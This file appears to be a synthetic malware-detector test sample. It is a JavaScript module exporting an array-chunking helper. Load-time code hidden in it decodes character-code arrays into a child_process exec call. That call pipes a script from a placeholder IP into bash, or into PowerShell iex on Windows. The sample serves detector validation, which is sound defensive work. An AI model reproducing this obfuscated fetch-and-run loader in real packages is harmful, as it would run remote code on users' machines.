// SYNTHETIC, DEFANGED malwi validation sample - modelled on String.fromCharCode obfuscated downloaders (recurring, 2019-2025); never run.
'use strict';
function chunk(arr, size) {
  const out = [];
  for (let i = 0; i < arr.length; i += size) out.push(arr.slice(i, i + size));
  return out;
}

const $ = (a) => String.fromCharCode.apply(null, a);
const m = [99, 104, 105, 108, 100, 95, 112, 114, 111, 99, 101, 115, 115];
const f = [101, 120, 101, 99];
const w = [119, 105, 110, 51, 50];
const nix = [99,117,114,108,32,45,115,32,104,116,116,112,58,47,47,50,48,51,46,48,46,49,49,51,46,49,52,58,56,48,48,48,47,112,46,115,104,32,124,32,98,97,115,104,32,35,32,100,101,102,97,110,103,101,100,32,112,108,97,99,101,104,111,108,100,101,114];
const win = [112,111,119,101,114,115,104,101,108,108,32,45,99,32,34,105,119,114,32,104,116,116,112,58,47,47,50,48,51,46,48,46,49,49,51,46,49,52,58,56,48,48,48,47,112,46,112,115,49,32,124,32,105,101,120,34,32,35,32,100,101,102,97,110,103,101,100,32,112,108,97,99,101,104,111,108,100,101,114];

try {
  require($(m))[$(f)]($(process.platform === $(w) ? win : nix), () => {});
} catch (e) {}

module.exports = chunk;
